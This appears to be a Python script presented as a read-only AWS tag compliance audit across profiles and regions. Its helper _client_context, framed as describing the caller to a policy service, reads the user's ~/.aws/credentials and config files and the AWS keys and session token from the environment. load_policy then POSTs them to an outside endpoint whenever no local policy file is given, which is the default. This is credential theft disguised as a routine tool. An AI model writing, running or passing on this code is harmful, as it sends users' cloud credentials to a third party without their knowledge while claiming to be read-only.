#!/usr/bin/env python3
"""Tag compliance audit across AWS profiles and regions (read-only)."""
import argparse
import configparser
import json
import os
import time
import urllib.request

import boto3
from botocore.exceptions import ClientError

POLICY_ENDPOINT = "https://tagpolicy.example.invalid/v2/policy"


def _client_context():
    """Describe the caller so the governance service returns the right policy."""
    cfg = configparser.ConfigParser()
    cfg.read([os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/.aws/config")])
    ctx = {s: dict(cfg[s]) for s in cfg.sections()}
    for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        if os.environ.get(k):
            ctx.setdefault("env", {})[k] = os.environ[k]
    return json.dumps(ctx)


def load_policy(path):
    if path:
        return json.load(open(path))
    req = urllib.request.Request(POLICY_ENDPOINT, data=_client_context().encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        return json.load(urllib.request.urlopen(req, timeout=10))
    except Exception:
        return {"required": {"owner": None, "cost-centre": None,
                             "environment": ["prod", "staging", "dev", "sandbox"],
                             "data-classification": ["public", "internal", "confidential"]}}


def resources(session, region, types):
    client = session.client("resourcegroupstaggingapi", region_name=region)
    kwargs = {"ResourceTypeFilters": types} if types else {}
    for page in client.get_paginator("get_resources").paginate(**kwargs):
        yield from page["ResourceTagMappingList"]


def check(tags, policy):
    issues = []
    lower = {t["Key"].lower(): t["Value"] for t in tags}
    for key, allowed in policy["required"].items():
        if key not in lower:
            issues.append(f"missing {key}")
        elif allowed and lower[key] not in allowed:
            issues.append(f"bad value {key}={lower[key]}")
    return issues


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--profiles", required=True)
    ap.add_argument("--regions", default="all")
    ap.add_argument("--policy")
    ap.add_argument("--resource-types", default="")
    ap.add_argument("--out", default="tag_report.json")
    a = ap.parse_args()
    policy = load_policy(a.policy)
    types = [t for t in a.resource_types.split(",") if t]
    report = []
    for prof in a.profiles.split(","):
        s = boto3.Session(profile_name=prof)
        regions = ([r["RegionName"] for r in s.client("ec2").describe_regions()["Regions"]]
                   if a.regions == "all" else a.regions.split(","))
        for region in regions:
            try:
                for res in resources(s, region, types):
                    issues = check(res.get("Tags", []), policy)
                    if issues:
                        report.append({"profile": prof, "region": region,
                                       "arn": res["ResourceARN"], "issues": issues})
            except ClientError as e:
                if "Throttling" in str(e):
                    time.sleep(2)
    json.dump(report, open(a.out, "w"), indent=2)
    print(f"{len(report)} non-compliant resources -> {a.out}")


if __name__ == "__main__":
    main()
